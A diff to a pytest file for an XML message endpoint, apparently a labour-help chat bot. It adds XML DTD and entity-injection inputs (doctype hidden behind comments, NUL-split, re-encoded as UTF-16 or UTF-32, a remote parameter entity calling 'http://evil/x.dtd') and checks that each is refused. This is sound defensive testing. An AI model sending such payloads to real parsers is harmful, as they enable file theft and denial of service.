@@ -108,12 +108,56 @@ HOSTILE = {
 }
 
 
-@pytest.mark.parametrize("name", list(HOSTILE))
-def test_hostile_xml_gets_a_4xx_never_a_500(harness: Harness, name: str) -> None:
+# A DTD can only stand before the root element; every way of putting one there is refused before
+# the parser runs (entities need a DTD, so none can be declared).
+_PUSH = "<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><MsgType>text</MsgType>"
+DTDS = {
+    "doctype after a comment": "<!-- hi --><!DOCTYPE x [<!ENTITY e 'x'>]>"
+    + _PUSH
+    + "<Content>&e;</Content></xml>",
+    "comment hiding a tag": "<!-- <xml> --><!DOCTYPE x [<!ENTITY e 'x'>]>"
+    + _PUSH
+    + "<Content>&e;</Content></xml>",
+    "processing instruction hiding a tag": "<?pi <xml ?><!DOCTYPE x [<!ENTITY e 'x'>]>"
+    + _PUSH
+    + "<Content>&e;</Content></xml>",
+    "lower-case doctype": '<?xml version="1.0"?><!doctype x>' + _PUSH + "</xml>",
+    "parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]>' + _PUSH + "</xml>",
+    "doctype inside the root": "<xml><!DOCTYPE x [<!ENTITY e 'x'>]><FromUserName>&e;</FromUserName></xml>",
+    "NUL-split doctype": "<!\x00DOCTYPE x [<!ENTITY e 'x'>]>" + _PUSH + "<Content>&e;</Content></xml>",
+}
+
+
+@pytest.mark.parametrize("name", [*HOSTILE, *DTDS])
+@pytest.mark.parametrize("mode", ["plain", "safe"])
+def test_hostile_xml_gets_a_4xx_never_a_500(harness_factory, mode: str, name: str) -> None:
+    h = harness_factory(mode)
     started = time.monotonic()
-    resp = harness.post(HOSTILE[name])
+    resp = h.post({**HOSTILE, **DTDS}[name])  # in safe mode: the decrypted document is the hostile one
     assert 400 <= resp.status_code < 500, (name, resp.status_code)
     assert time.monotonic() - started < 2
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
+def test_dtd_in_another_encoding_is_refused(harness: Harness, encoding: str) -> None:
+    xml = (
+        f'<?xml version="1.0" encoding="{encoding.upper()}"?><!DOCTYPE x [<!ENTITY e "lol">]>'
+        + _PUSH
+        + "<Content>&e;</Content></xml>"
+    )
+    resp = harness.client.post(harness.path, query_string=harness.wechat.query(), data=xml.encode(encoding))
+    assert 400 <= resp.status_code < 500, (encoding, resp.status_code)
+
+
+def test_markup_declarations_typed_by_a_worker_are_just_text(harness: Harness) -> None:
+    reply = harness.say('<!DOCTYPE x [<!ENTITY e "lol">]> 欠薪怎么办 &e;', openid="o-typist")
+    assert "12333" in reply
+
+
+def test_bom_and_xml_declaration_are_accepted(harness: Harness) -> None:
+    xml = '\ufeff<?xml version="1.0" encoding="UTF-8"?>\n' + text_xml("过年加班工资怎么算")
+    content = harness.wechat.open_reply(harness.post(xml).data)["Content"]
+    assert "300%" in content
 
 
 def test_control_characters_in_content_still_get_a_well_formed_reply(harness: Harness) -> None:
